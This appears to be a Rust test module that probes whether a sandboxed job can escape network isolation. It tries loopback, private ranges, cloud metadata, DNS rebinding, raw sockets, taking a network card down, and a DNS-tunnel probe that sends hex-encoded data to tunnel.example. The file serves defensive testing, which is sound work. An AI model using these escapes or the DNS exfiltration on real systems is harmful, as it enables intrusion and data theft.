//! The network: the owner's own machine, the ranges of the owner's house, names, and packets below what sockets give.

use super::{ask, at, owned};
use crate::arena::{Arena, GREETING, Side};
use crate::catalogue::Control::{Bare, InNetwork};
use crate::catalogue::Probe;
use crate::catalogue::promise::{NO_NETWORK, NO_RIGHTS, OWN_CALLS, OWN_PROCESSES};
use crate::decoys::{DNS_PORT, HOUSE_PORT, REBOUND};
use crate::verdict::{Held, Outcome};
use std::io::Read as _;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::os::fd::AsRawFd as _;
use std::time::Duration;

const PRIVATE: &str = "private ranges";
const PATIENCE: Duration = Duration::from_millis(700);

pub(crate) const PROBES: &[Probe] = &[
    Probe::inside(
        PRIVATE,
        "a job reaches a service of the owner's on loopback",
        NO_NETWORK,
        Bare,
        |arena| greeted(SocketAddr::from((Ipv4Addr::LOCALHOST, arena.owner_port))),
    ),
    Probe::inside(
        PRIVATE,
        "a job reaches a machine of the owner's house in 10.0.0.0/8",
        NO_NETWORK,
        InNetwork,
        |_| greeted(house([10, 11, 12, 13])),
    ),
    Probe::inside(
        PRIVATE,
        "a job reaches a machine of the owner's house in 172.16.0.0/12",
        NO_NETWORK,
        InNetwork,
        |_| greeted(house([172, 20, 1, 2])),
    ),
    Probe::inside(
        PRIVATE,
        "a job reaches a machine of the owner's house in 192.168.0.0/16",
        NO_NETWORK,
        InNetwork,
        |_| greeted(house([192, 168, 77, 1])),
    ),
    Probe::inside(
        PRIVATE,
        "a job reaches a link-local service such as a cloud's metadata",
        NO_NETWORK,
        InNetwork,
        |_| greeted(house([169, 254, 169, 254])),
    ),
    Probe::inside(
        PRIVATE,
        "a job reaches a machine behind the provider's shared addresses",
        NO_NETWORK,
        InNetwork,
        |_| greeted(house([100, 64, 0, 9])),
    ),
    Probe::inside(
        "networks",
        "a job reaches a machine of the internet",
        NO_NETWORK,
        InNetwork,
        |_| greeted(house([198, 51, 100, 7])),
    ),
    Probe::inside("names", "a job asks a name server", NO_NETWORK, InNetwork, |_| {
        let answer = resolve("who.example")?;
        Ok(format!("who.example is {answer}"))
    }),
    Probe::inside(
        "DNS tunnel",
        "a job sends what it knows out in names that it asks for",
        NO_NETWORK,
        InNetwork,
        |_| {
            let answer = resolve("73656372657473206f6620746865206a6f62.tunnel.example")?;
            Ok(format!("the name went out, {answer} came back"))
        },
    ),
    Probe::inside(
        "rebinding",
        "a job reaches the owner's house by a name that is bound anew",
        NO_NETWORK,
        InNetwork,
        |_| {
            let harmless = resolve(REBOUND)?;
            let bound_anew = resolve(REBOUND)?;
            greeted(SocketAddr::from((bound_anew, HOUSE_PORT))).map(|what| format!("{harmless}, then {what}"))
        },
    ),
    Probe::inside(
        "raw sockets",
        "a job reads every packet of a card",
        OWN_CALLS,
        Bare,
        |_| socket(libc::AF_PACKET, libc::SOCK_RAW, 0x0300),
    ),
    Probe::inside(
        "raw sockets",
        "a job writes packets as it likes",
        NO_RIGHTS,
        Bare,
        |_| socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW),
    ),
    Probe::inside(
        "raw sockets",
        "a job speaks to the host of a virtual machine",
        OWN_CALLS,
        Bare,
        |_| socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0),
    ),
    Probe::inside(
        "raw sockets",
        "a job reaches the kernel's ciphers",
        OWN_CALLS,
        Bare,
        |_| socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0),
    ),
    Probe::inside(
        "networks",
        "a job takes a network card down",
        NO_RIGHTS,
        InNetwork,
        |_| {
            let asking = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
            // struct ifreq: a name of 16 bytes, then the flags; with none of them the card is down.
            let mut request = [0_u8; 40];
            request[..2].copy_from_slice(b"lo");
            ask(
                libc::SYS_ioctl,
                &[
                    libc::c_long::from(asking.as_raw_fd()),
                    libc::c_long::try_from(libc::SIOCSIFFLAGS).unwrap_or(0),
                    at(&request),
                ],
            )?;
            request[16] = 1;
            ask(
                libc::SYS_ioctl,
                &[
                    libc::c_long::from(asking.as_raw_fd()),
                    libc::c_long::try_from(libc::SIOCSIFFLAGS).unwrap_or(0),
                    at(&request),
                ],
            )?;
            Ok("took lo down and up".to_owned())
        },
    ),
    Probe::inside(
        "networks",
        "a job hears of each device that the owner plugs in",
        OWN_PROCESSES,
        Bare,
        plugged_in,
    ),
];

fn house(address: [u8; 4]) -> SocketAddr {
    SocketAddr::from((Ipv4Addr::from(address), HOUSE_PORT))
}

/// Connects and hears the owner's greeting.
fn greeted(address: SocketAddr) -> Outcome {
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    let mut heard = String::new();
    stream.read_to_string(&mut heard)?;
    if heard.contains(GREETING) {
        Ok(format!("{address} greeted"))
    } else {
        Err(Held::nothing("somebody else answered"))
    }
}

fn socket(family: i32, kind: i32, protocol: i32) -> Outcome {
    let answer = ask(libc::SYS_socket, &[family, kind, protocol].map(libc::c_long::from))?;
    drop(owned(answer)?);
    Ok("has the socket".to_owned())
}

/// Asks the name server of the house, by hand: an image has no resolver that could be relied on.
fn resolve(name: &str) -> Result<IpAddr, Held> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    let mut question = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        question.push(u8::try_from(label.len()).unwrap_or(0));
        question.extend(label.bytes());
    }
    question.extend([0, 0, 1, 0, 1]);
    socket.send_to(&question, (Ipv4Addr::new(192, 168, 77, 1), DNS_PORT))?;
    let mut answer = [0; 512];
    let count = socket.recv(&mut answer)?;
    match answer.get(count.saturating_sub(4)..count) {
        Some(&[a, b, c, d]) => Ok(IpAddr::from([a, b, c, d])),
        Some(_) | None => Err(Held::nothing("no answer that could be read")),
    }
}

/// The kernel tells every network namespace of the machine's owner about devices, unless the socket is refused. The suite makes
/// the kernel speak of one while this listens.
fn plugged_in(arena: &Arena) -> Outcome {
    const DEVICE_EVENTS: i32 = 15;
    let listening = owned(ask(
        libc::SYS_socket,
        &[libc::AF_NETLINK, libc::SOCK_DGRAM, DEVICE_EVENTS].map(libc::c_long::from),
    )?)?;
    // struct sockaddr_nl: family, padding, port, groups.
    let mut address = [0_u32; 3];
    address[0] = u32::from(u16::try_from(libc::AF_NETLINK).unwrap_or(0));
    address[2] = 1;
    let number = libc::c_long::from(listening.as_raw_fd());
    ask(libc::SYS_bind, &[number, at(&address), 12])?;
    let patience = libc::timeval { tv_sec: 2, tv_usec: 0 };
    ask(
        libc::SYS_setsockopt,
        &[
            number,
            libc::c_long::from(libc::SOL_SOCKET),
            libc::c_long::from(libc::SO_RCVTIMEO),
            at(&patience),
            16,
        ],
    )?;
    if arena.side == Side::Control {
        std::fs::write("/sys/class/mem/null/uevent", "change")?;
    }
    let mut event = [0_u8; 512];
    let count = ask(libc::SYS_read, &[number, super::at_mut(&mut event), 512])?;
    let text = String::from_utf8_lossy(&event[..usize::try_from(count).unwrap_or(0)]).into_owned();
    Ok(text.split('\0').next().unwrap_or_default().to_owned())
}
